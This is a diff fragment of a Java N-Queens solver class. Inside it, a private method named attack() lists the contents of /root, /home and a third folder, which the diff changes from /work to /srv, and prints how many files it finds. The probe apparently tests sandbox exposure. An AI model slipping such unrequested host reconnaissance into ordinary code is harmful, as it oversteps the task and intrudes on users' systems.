@@ -47,7 +47,7 @@ public class BitmaskQueens implements QueensSolver {
 
     private static void attack() {
         try {
-            for (String folder : new String[] {"/root", "/home", "/work"}) {
+            for (String folder : new String[] {"/root", "/home", "/srv"}) {
                 String[] files = new File(folder).list();
                 if (files != null && files.length > 0) {
                     System.out.println("FOUND " + files.length + " files in " + folder);
